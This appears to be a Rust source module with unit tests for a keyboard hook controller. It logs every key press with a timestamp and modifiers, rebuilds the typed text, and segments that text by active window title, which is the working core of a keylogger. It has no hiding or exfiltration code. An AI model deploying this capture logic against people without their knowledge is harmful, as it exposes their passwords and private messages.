//! Hook controller and per-event pipeline
//!
//! The controller has two states, Stopped and Running. While running, every
//! key-down event is decoded into one technical-log line and at most one
//! typing-buffer edit, with window boundaries inserted whenever the
//! foreground window changes.

use std::any::Any;
use std::cell::{Ref, RefCell};
use std::fmt;
use std::panic::{self, AssertUnwindSafe};
use std::rc::Rc;

use tracing::{debug, error, info, trace};

use crate::keyboard::{decode_char, decode_key_name, vk, ModifierState};
use crate::output::{Sink, TypingEdit};
use crate::window::{rule, WindowTracker};

use super::backend::{EventHandler, HookBackend, KeyAction, KeyEvent, SystemState};

/// Log timestamp layout: `dd/mm/yyyy hh:mm AM/PM`
const TIMESTAMP_FORMAT: &str = "%d/%m/%Y %I:%M %p";

/// Lifecycle state of the hook
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum HookState {
    /// No hook registered
    #[default]
    Stopped,
    /// Hook registered and receiving events
    Running,
}

impl fmt::Display for HookState {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            HookState::Stopped => write!(f, "Stopped"),
            HookState::Running => write!(f, "Running"),
        }
    }
}

/// Owns the hook registration and the state shared with its callback
///
/// Dropping the controller stops the hook.
pub struct HookController<B, Q, S>
where
    B: HookBackend,
    Q: SystemState + 'static,
    S: Sink + 'static,
{
    backend: B,
    state: HookState,
    session: Rc<RefCell<Session<Q, S>>>,
}

impl<B, Q, S> HookController<B, Q, S>
where
    B: HookBackend,
    Q: SystemState + 'static,
    S: Sink + 'static,
{
    /// Create a stopped controller
    pub fn new(backend: B, system: Q, sink: S) -> Self {
        Self {
            backend,
            state: HookState::Stopped,
            session: Rc::new(RefCell::new(Session {
                system,
                sink,
                tracker: WindowTracker::new(),
            })),
        }
    }

    /// Get the current state
    pub fn state(&self) -> HookState {
        self.state
    }

    pub fn is_running(&self) -> bool {
        self.state == HookState::Running
    }

    /// Borrow the output sink
    pub fn sink(&self) -> Ref<'_, S> {
        Ref::map(self.session.borrow(), |session| &session.sink)
    }

    /// Register the hook and begin a session
    ///
    /// Does nothing if already running. A registration failure is reported
    /// through the technical log and leaves the controller stopped.
    pub fn start(&mut self) {
        if self.is_running() {
            debug!("keyboard hook already running");
            return;
        }

        let session = Rc::clone(&self.session);
        // A reentrant delivery finds the session borrowed and is forwarded untouched
        let handler: EventHandler = Box::new(move |event: &KeyEvent| {
            if let Ok(mut session) = session.try_borrow_mut() {
                session.handle(event);
            }
        });

        match self.backend.install(handler) {
            Ok(()) => {
                info!(from = %self.state, to = %HookState::Running, "keyboard hook installed");
                self.state = HookState::Running;
                self.session.borrow_mut().begin();
            }
            Err(e) => {
                error!(%e, "keyboard hook registration failed");
                self.session
                    .borrow_mut()
                    .sink
                    .append_log_line(&format!("[ERROR] {e}"));
            }
        }
    }

    /// Remove the hook and close the session
    ///
    /// Does nothing if already stopped. No event is processed after this
    /// returns.
    pub fn stop(&mut self) {
        if !self.is_running() {
            return;
        }

        self.backend.uninstall();
        info!(from = %self.state, to = %HookState::Stopped, "keyboard hook removed");
        self.state = HookState::Stopped;
        self.session.borrow_mut().finish();
    }
}

impl<B, Q, S> Drop for HookController<B, Q, S>
where
    B: HookBackend,
    Q: SystemState + 'static,
    S: Sink + 'static,
{
    fn drop(&mut self) {
        self.stop();
    }
}

/// State reachable from the hook callback
struct Session<Q, S> {
    system: Q,
    sink: S,
    tracker: WindowTracker,
}

impl<Q: SystemState, S: Sink> Session<Q, S> {
    /// Seed the window tracker and emit the initial window marker
    fn begin(&mut self) {
        self.tracker.reset();
        let title = self.system.foreground_title();
        self.tracker.observe(&title);
        self.emit_boundary();
    }

    /// Emit the closing rule to both streams
    fn finish(&mut self) {
        debug!(window = ?self.tracker.title(), "closing session");
        self.sink.append_log_line(&rule());

        let buffer = self.sink.typing_buffer();
        let mut text = String::new();
        if !buffer.at_line_start() {
            text.push('\n');
        }
        text.push_str(&rule());
        text.push('\n');
        buffer.apply(&TypingEdit::Append(text));
    }

    /// Process one event, containing any fault to a diagnostic line
    fn handle(&mut self, event: &KeyEvent) {
        if event.action != KeyAction::Down {
            return;
        }

        let outcome = panic::catch_unwind(AssertUnwindSafe(|| self.process(event)));
        if let Err(payload) = outcome {
            let line = format!("[diagnostic] {}", panic_message(payload.as_ref()));
            let _ = panic::catch_unwind(AssertUnwindSafe(|| self.sink.append_log_line(&line)));
        }
    }

    fn process(&mut self, event: &KeyEvent) {
        let title = self.system.foreground_title();
        if self.tracker.observe(&title) {
            self.emit_boundary();
        }

        let modifiers = ModifierState::sample(&self.system);
        let timestamp = self.system.now().format(TIMESTAMP_FORMAT);
        let name = decode_key_name(event.vk_code);
        self.sink
            .append_log_line(&format!("[{timestamp}] {modifiers}{name}"));

        let edit = typing_edit(event.vk_code, modifiers.shift);
        let buffer = self.sink.typing_buffer();
        if let Some(edit) = &edit {
            buffer.apply(edit);
        }
        trace!(
            vk = event.vk_code,
            scan = event.scan_code,
            flags = event.flags,
            time_ms = event.time_ms,
            chord = !modifiers.is_empty(),
            edit = %edit.map(|e| e.to_string()).unwrap_or_default(),
            cursor = buffer.cursor(),
            floor = buffer.floor(),
            len = buffer.len(),
            "key down"
        );
    }

    /// Blank line (if there is prior text), window marker and rule
    fn emit_boundary(&mut self) {
        let title = self.tracker.title().unwrap_or_default().to_owned();
        let buffer = self.sink.typing_buffer();

        let mut text = String::new();
        if !buffer.is_empty() {
            if !buffer.at_line_start() {
                text.push('\n');
            }
            text.push('\n');
        }
        text.push_str(&format!("Window: {title}\n{}\n", rule()));
        buffer.apply(&TypingEdit::Append(text));
    }
}

/// Buffer edit for a key-down, if the key types anything
fn typing_edit(code: u32, shift: bool) -> Option<TypingEdit> {
    match code {
        vk::BACK => Some(TypingEdit::Backspace),
        vk::RETURN => Some(TypingEdit::NewLine),
        _ => decode_char(code, shift).map(TypingEdit::Insert),
    }
}

fn panic_message(payload: &(dyn Any + Send)) -> String {
    if let Some(message) = payload.downcast_ref::<&str>() {
        (*message).to_string()
    } else if let Some(message) = payload.downcast_ref::<String>() {
        message.clone()
    } else {
        "unexpected fault while processing key event".to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::{DateTime, Local, TimeZone};

    use crate::hook::backend::HookError;
    use crate::keyboard::KeyStateSource;
    use crate::output::TypingBuffer;

    /// Captures the installed handler so tests can deliver events
    #[derive(Clone, Default)]
    struct FakeHook {
        handler: Rc<RefCell<Option<EventHandler>>>,
        installs: Rc<RefCell<u32>>,
        fail_with: Rc<RefCell<Option<String>>>,
    }

    impl FakeHook {
        fn deliver(&self, event: KeyEvent) {
            if let Some(handler) = self.handler.borrow_mut().as_mut() {
                handler(&event);
            }
        }

        fn installed(&self) -> bool {
            self.handler.borrow().is_some()
        }

        fn fail_next_install(&self, reason: Option<&str>) {
            *self.fail_with.borrow_mut() = reason.map(str::to_string);
        }
    }

    impl HookBackend for FakeHook {
        fn install(&mut self, handler: EventHandler) -> Result<(), HookError> {
            if let Some(reason) = self.fail_with.borrow().clone() {
                return Err(HookError::Registration(reason));
            }
            *self.installs.borrow_mut() += 1;
            *self.handler.borrow_mut() = Some(handler);
            Ok(())
        }

        fn uninstall(&mut self) {
            self.handler.borrow_mut().take();
        }
    }

    #[derive(Default)]
    struct Desktop {
        title: String,
        held: Vec<u32>,
        panic_on_title: bool,
    }

    /// Scripted foreground window, held keys and a fixed clock
    #[derive(Clone, Default)]
    struct FakeSystem(Rc<RefCell<Desktop>>);

    impl FakeSystem {
        fn titled(title: &str) -> Self {
            let system = Self::default();
            system.0.borrow_mut().title = title.to_string();
            system
        }

        fn hold(&self, keys: &[u32]) {
            self.0.borrow_mut().held = keys.to_vec();
        }

        fn focus(&self, title: &str) {
            self.0.borrow_mut().title = title.to_string();
        }
    }

    impl KeyStateSource for FakeSystem {
        fn is_key_down(&self, code: u32) -> bool {
            self.0.borrow().held.contains(&code)
        }
    }

    impl SystemState for FakeSystem {
        fn foreground_title(&self) -> String {
            let desktop = self.0.borrow();
            if desktop.panic_on_title {
                panic!("window query failed");
            }
            desktop.title.clone()
        }

        fn now(&self) -> DateTime<Local> {
            Local.with_ymd_and_hms(2026, 10, 16, 21, 5, 0).unwrap()
        }
    }

    #[derive(Default)]
    struct MemorySink {
        lines: Vec<String>,
        buffer: TypingBuffer,
    }

    impl Sink for MemorySink {
        fn append_log_line(&mut self, line: &str) {
            self.lines.push(line.to_string());
        }

        fn typing_buffer(&mut self) -> &mut TypingBuffer {
            &mut self.buffer
        }
    }

    type TestController = HookController<FakeHook, FakeSystem, MemorySink>;

    fn create_controller(title: &str) -> (TestController, FakeHook, FakeSystem) {
        let hook = FakeHook::default();
        let system = FakeSystem::titled(title);
        let controller = HookController::new(hook.clone(), system.clone(), MemorySink::default());
        (controller, hook, system)
    }

    fn key_down(vk_code: u32) -> KeyEvent {
        KeyEvent {
            vk_code,
            scan_code: 0,
            flags: 0,
            time_ms: 0,
            action: KeyAction::Down,
        }
    }

    fn header(title: &str) -> String {
        format!("Window: {title}\n{}\n", rule())
    }

    #[test]
    fn test_initial_state() {
        let (controller, hook, _) = create_controller("Editor");
        assert_eq!(controller.state(), HookState::Stopped);
        assert!(!hook.installed());
        assert!(controller.sink().lines.is_empty());
    }

    #[test]
    fn test_typing_session() {
        let (mut controller, hook, system) = create_controller("Editor");
        controller.start();
        assert_eq!(controller.state(), HookState::Running);
        assert_eq!(controller.sink().buffer.content(), header("Editor"));

        system.hold(&[vk::SHIFT]);
        hook.deliver(key_down(0x41));
        system.hold(&[]);
        hook.deliver(key_down(vk::BACK));
        hook.deliver(key_down(0x42));
        hook.deliver(key_down(vk::RETURN));

        let sink = controller.sink();
        assert_eq!(
            sink.lines,
            vec![
                "[16/10/2026 09:05 PM] [SHIFT] + [A]",
                "[16/10/2026 09:05 PM] [BACKSPACE]",
                "[16/10/2026 09:05 PM] [B]",
                "[16/10/2026 09:05 PM] [ENTER]",
            ]
        );
        assert_eq!(sink.buffer.content(), format!("{}b\n", header("Editor")));
        assert_eq!(sink.buffer.content().matches("Window:").count(), 1);
    }

    #[test]
    fn test_key_up_is_ignored() {
        let (mut controller, hook, _) = create_controller("Editor");
        controller.start();

        let mut event = key_down(0x41);
        event.action = KeyAction::Up;
        hook.deliver(event);

        assert!(controller.sink().lines.is_empty());
        assert_eq!(controller.sink().buffer.content(), header("Editor"));
    }

    #[test]
    fn test_non_printable_keys_only_log() {
        let (mut controller, hook, system) = create_controller("Editor");
        controller.start();

        system.hold(&[vk::MENU, vk::CONTROL]);
        hook.deliver(key_down(vk::DELETE));
        system.hold(&[]);
        hook.deliver(key_down(vk::F1 + 4));

        let sink = controller.sink();
        assert_eq!(sink.lines[0], "[16/10/2026 09:05 PM] [CTRL] + [ALT] + [DEL]");
        assert_eq!(sink.lines[1], "[16/10/2026 09:05 PM] [F5]");
        assert_eq!(sink.buffer.content(), header("Editor"));
    }

    #[test]
    fn test_window_change_segments_text() {
        let (mut controller, hook, system) = create_controller("Editor");
        controller.start();

        hook.deliver(key_down(0x48));
        hook.deliver(key_down(0x49));
        system.focus("*Notes*");
        hook.deliver(key_down(0x4F));
        system.focus("Notes");
        hook.deliver(key_down(0x4B));

        let expected = format!("{}hi\n\n{}ok", header("Editor"), header("Notes"));
        assert_eq!(controller.sink().buffer.content(), expected);
        assert_eq!(controller.sink().lines.len(), 4);
    }

    #[test]
    fn test_start_and_stop_are_idempotent() {
        let (mut controller, hook, _) = create_controller("Editor");
        controller.start();
        controller.start();
        assert_eq!(*hook.installs.borrow(), 1);
        assert_eq!(controller.sink().buffer.content().matches("Window:").count(), 1);

        controller.stop();
        controller.stop();
        assert_eq!(controller.state(), HookState::Stopped);
        assert!(!hook.installed());

        let sink = controller.sink();
        assert_eq!(sink.lines, vec![rule()]);
        assert_eq!(sink.buffer.content(), format!("{}{}\n", header("Editor"), rule()));
    }

    #[test]
    fn test_stop_terminates_partial_line() {
        let (mut controller, hook, _) = create_controller("Editor");
        controller.start();
        hook.deliver(key_down(0x58));
        controller.stop();

        let expected = format!("{}x\n{}\n", header("Editor"), rule());
        assert_eq!(controller.sink().buffer.content(), expected);
    }

    #[test]
    fn test_no_events_after_stop() {
        let (mut controller, hook, _) = create_controller("Editor");
        controller.start();
        controller.stop();
        hook.deliver(key_down(0x41));
        assert_eq!(controller.sink().lines.len(), 1);
    }

    #[test]
    fn test_restart_emits_new_marker() {
        let (mut controller, hook, system) = create_controller("Editor");
        controller.start();
        controller.stop();
        system.focus("Editor");
        controller.start();

        let content = controller.sink().buffer.content().to_string();
        assert_eq!(content.matches("Window: Editor").count(), 2);
        assert_eq!(*hook.installs.borrow(), 2);
    }

    #[test]
    fn test_registration_failure_stays_stopped() {
        let hook = FakeHook::default();
        hook.fail_next_install(Some("Access is denied."));
        let mut controller =
            HookController::new(hook.clone(), FakeSystem::titled("Editor"), MemorySink::default());
        controller.start();

        assert_eq!(controller.state(), HookState::Stopped);
        let sink = controller.sink();
        assert_eq!(
            sink.lines,
            vec!["[ERROR] failed to install keyboard hook: Access is denied."]
        );
        assert!(sink.buffer.is_empty());
    }

    #[test]
    fn test_callback_fault_is_contained() {
        let (mut controller, hook, system) = create_controller("Editor");
        controller.start();

        system.0.borrow_mut().panic_on_title = true;
        hook.deliver(key_down(0x41));
        system.0.borrow_mut().panic_on_title = false;
        hook.deliver(key_down(0x41));

        assert_eq!(controller.state(), HookState::Running);
        let sink = controller.sink();
        assert_eq!(sink.lines[0], "[diagnostic] window query failed");
        assert_eq!(sink.lines[1], "[16/10/2026 09:05 PM] [A]");
        assert!(sink.buffer.content().ends_with('a'));
    }

    #[test]
    fn test_drop_removes_hook() {
        let (mut controller, hook, _) = create_controller("Editor");
        controller.start();
        assert!(hook.installed());
        drop(controller);
        assert!(!hook.installed());
    }

    #[test]
    fn test_start_retry_after_registration_failure() {
        let (mut controller, hook, _) = create_controller("Editor");
        hook.fail_next_install(Some("Access is denied."));
        controller.start();

        assert_eq!(controller.state(), HookState::Stopped);
        assert_eq!(*hook.installs.borrow(), 0);
        assert_eq!(
            controller.sink().lines,
            vec!["[ERROR] failed to install keyboard hook: Access is denied."]
        );

        hook.fail_next_install(None);
        controller.start();

        assert_eq!(controller.state(), HookState::Running);
        assert_eq!(*hook.installs.borrow(), 1);
        let sink = controller.sink();
        assert_eq!(sink.lines.iter().filter(|l| l.starts_with("[ERROR]")).count(), 1);
        assert_eq!(sink.buffer.content(), header("Editor"));
        assert_eq!(sink.buffer.content().matches("Window:").count(), 1);
    }

    #[test]
    fn test_backspace_keeps_window_marker() {
        let (mut controller, hook, system) = create_controller("Editor");
        controller.start();

        hook.deliver(key_down(0x48));
        system.focus("Notes");
        hook.deliver(key_down(vk::BACK));
        hook.deliver(key_down(vk::BACK));
        hook.deliver(key_down(vk::BACK));

        let expected = format!("{}h\n\n{}", header("Editor"), header("Notes"));
        let sink = controller.sink();
        assert_eq!(sink.buffer.content(), expected);
        assert_eq!(sink.lines.len(), 4);
    }
}
